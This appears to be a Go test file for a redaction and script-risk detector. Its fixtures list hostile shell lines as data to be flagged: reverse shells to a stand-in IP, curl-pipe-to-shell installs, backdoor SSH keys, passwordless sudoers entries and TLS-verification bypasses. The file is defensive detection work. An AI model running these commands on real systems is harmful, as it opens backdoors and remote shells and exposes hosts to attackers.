package redact

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
)

// TestTraits has scripts that do what they better did not, and scripts that only look so.
func TestTraits(t *testing.T) {
	for code, scripts := range map[string][]string{
		"adds-ssh-key": {
			`echo "ssh-ed25519 AAAAC3 me@host" >> /home/ec2-user/.ssh/authorized_keys`,
			`echo "$KEY" | sudo tee -a ~/.ssh/authorized_keys`,
			`aws s3 cp s3://b/keys /home/ec2-user/.ssh/authorized_keys`,
			`ssh-import-id gh:somebody`,
		},
		"adds-user": {`sudo useradd -m eve`, `if true; then adduser eve; fi`, `/usr/sbin/useradd eve`},
		"disables-tls-verification": {
			`curl -k https://x/y -o z`, `curl -sSkL https://x`, `curl --insecure https://x`, `curl https://x -k`,
			`wget --no-check-certificate https://x`,
			`pip install --trusted-host pypi.org numpy`, `python3 -m pip install x --trusted-host mirror`, `/opt/conda/bin/pip install --trusted-host=m x`,
			`git config --global http.sslVerify false`, `git -c http.sslVerify=false clone https://x`,
			`export GIT_SSL_NO_VERIFY=1`, `GIT_SSL_NO_VERIFY=true git clone https://x`,
			`npm config set strict-ssl false`, `conda config --set ssl_verify no`, `aws s3 cp --no-verify-ssl s3://a b`,
			`export PYTHONHTTPSVERIFY=0`, `NODE_TLS_REJECT_UNAUTHORIZED=0 node x.js`, `requests.get("https://x", verify=False)`,
		},
		"opens-reverse-shell": {`bash -i >& /dev/tcp/198.51.100.7/443 0>&1`, `nc 198.51.100.7 443 -e /bin/sh`},
		"opens-tunnel":        {`ngrok http 8888`, `nohup ./ngrok tcp 22 &`, `cloudflared tunnel --url http://localhost:8888`, `ssh -fN -R 9000:localhost:8888 u@h`, `tailscale up --authkey $K`},
		"pipes-download-to-shell": {
			`curl -sSL https://install.example.com | bash`, `curl https://x|sudo -E bash -`, `wget -qO- "https://x/y?a=1&b=2" | sh -s -- -y`,
			"curl -LsSf \\\n  https://astral.sh/uv/install.sh | sh", `bash <(curl -s https://x)`, `source <(curl -s https://x)`,
			`sh -c "$(curl -fsSL https://x)"`, `eval "$(curl -s https://x)"`, `curl https://x | python3 -`, `curl https://x | gunzip | bash`,
			`sudo -u ec2-user -i bash -c 'set -e' && curl https://x | bash`, `FOO=1 curl https://x | /bin/bash`,
		},
		"writes-sudoers": {`echo "ec2-user ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers.d/me`, `echo x | tee /etc/sudoers.d/me`, `usermod -aG wheel eve`, `sudo usermod -a -G docker,sudo eve`},
	} {
		for _, script := range scripts {
			if got := traitsOf("#!/bin/bash\nset -e\n" + script + "\n"); !slices.Contains(got, code) {
				t.Errorf("%s: %v, want %s", script, got, code)
			}
		}
	}
	for _, script := range []string{
		"# curl https://x | bash", "echo ok # useradd eve", `echo "run curl https://x | bash to install"`, `printf 'useradd eve'`,
		"curl -o x https://x\nbash --version", "curl https://x | jq .name", "curl https://x | tar xz", `curl https://x | grep sh`, "curl -s https://x > out; bash build.sh",
		"curl -sSL https://x || bash fallback.sh", "wget https://x/k && sh ./y", "curl https://x -o kube.sh", "curl -K config https://x", "curl --keepalive-time 2 https://x",
		"curl --kerberos x https://x", "wget https://x/--no-check", "pip install trusted-host-lib", "git config http.sslVerify true", "conda config --set ssl_verify true",
		"yum install -y shadow-utils useradd-helper", "man useradd", "usermod -s /bin/bash eve", "usermod -aG ml-users eve", "cat ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys",
		"pip install pyngrok", "pip install ngrok", "ssh -i k.pem u@h", "ssh -L 9000:localhost:8888 u@h", "tailscale status", "cat /etc/sudoers", "nc -z host 22", "echo hi > /dev/tcp-log",
		"requests.get(url, verify=True)", "x.run(verify=False)", "PYTHONHTTPSVERIFY=1", "conda install sh && curl https://x -o y",
		"sudo -u ec2-user -i <<'EOF'\nsource activate python3\npip install --upgrade xgboost\nEOF",
		"python -c 'import json; print(1)' | tee out", "nohup pip install x > /var/log/x.log 2>&1 &",
	} {
		if got := traitsOf(script); len(got) > 0 {
			t.Errorf("%s: %v", script, got)
		}
	}
	if codes := TraitCodes(); !slices.IsSorted(codes) {
		t.Errorf("not sorted: %v", codes)
	}
}

// TestEnvironmentsSayWhichIsSecret holds that the name of a variable tells a secret
// from a setting, in all that may be an environment, and none leaves a value.
func TestEnvironmentsSayWhichIsSecret(t *testing.T) {
	for _, c := range []struct{ name, value, rules string }{
		{"API_KEY", canary, "environment secret-name"},
		{"API_KEY", "${KEY}", "environment"},
		{"LOG_LEVEL", "info", "environment"},
		{"DB_PASSWORD", "hunter2", "environment secret-name"},
		{"GH", fake("ghp_", "aB3dE6gH9k", 36), "environment github-pat github-token"},
		{"MAX_TOKENS", "10", "environment"},
		{"DB_SECRET", "arn:aws:secretsmanager:us-east-1:123456789012:secret:x", ""},
	} {
		for form, read := range map[string]func(f *Filter) string{
			"variable":    func(f *Filter) string { return f.Text(Variable.In(Named(c.name)), c.value) },
			"assignments": func(f *Filter) string { return f.Text(Named("env"), "A=[redacted] "+c.name+`="`+c.value+`"`) },
			"document":    func(f *Filter) string { return f.Document(`{"Environment":{"` + c.name + `":"` + c.value + `"}}`) },
			"list": func(f *Filter) string {
				return f.Document(`{"env":[{"name":"` + c.name + `","value":"` + c.value + `"}]}`)
			},
		} {
			f := Filter{On: true}
			f.Enter("c")
			text := read(&f)
			var rules []string
			for _, r := range f.Found {
				rules = append(rules, r.Rule)
			}
			slices.Sort(rules)
			if got := strings.Join(rules, " "); got != c.rules || c.rules != "" && strings.Contains(text, c.value) {
				t.Errorf("%s of %s=%s: %s, rules %q, want %q", form, c.name, c.value, text, got, c.rules)
			}
		}
	}
	f := Filter{On: true}
	f.Enter("c")
	if !f.Number(Variable.In(Named("DB_PASSWORD")), "12345678") || len(f.Found) != 2 {
		t.Errorf("a number: %v", f.Found)
	}
}

// TestOff holds that a filter that is off notes the same as one that is on, and takes
// nothing out.
func TestOff(t *testing.T) {
	script := base64.StdEncoding.EncodeToString([]byte("curl https://x | bash\nexport API_KEY=" + canary))
	read := func(f *Filter) []string {
		f.Enter("c")
		all := []string{
			f.Text(Context{}, `{"password":"`+canary+`", "a":1}`), f.Text(Named("api_key"), canary), f.Text(Script, script),
			f.Document(`{ "env":{"A":"` + canary + `"}}`), f.Key(fake("ghp_", "aB3dE6gH9k", 36)),
		}
		all = append(all, f.Texts(Context{}, []string{"--token", canary})...)
		if f.Number(Named("db_password"), "12345678") {
			all = append(all, "number")
		}
		return all
	}
	on, off := Filter{On: true}, Filter{}
	clean, shown := read(&on), read(&off)
	if got, want := string(AppendRedactions(nil, off.Found)), string(AppendRedactions(nil, on.Found)); got != want || len(off.Found) == 0 {
		t.Errorf("off notes %s\non notes %s", got, want)
	}
	if !strings.Contains(string(AppendRedactions(nil, on.Found)), `"traits":["pipes-download-to-shell"]`) {
		t.Errorf("no traits: %v", on.Found)
	}
	if strings.Contains(strings.Join(clean, " "), canary) {
		t.Errorf("a secret stays: %v", clean)
	}
	want := []string{
		`{"password":"` + canary + `", "a":1}`, canary, script, `{ "env":{"A":"` + canary + `"}}`, fake("ghp_", "aB3dE6gH9k", 36), "--token", canary,
	}
	if !slices.Equal(shown, want) {
		t.Errorf("off: %v", shown)
	}
}
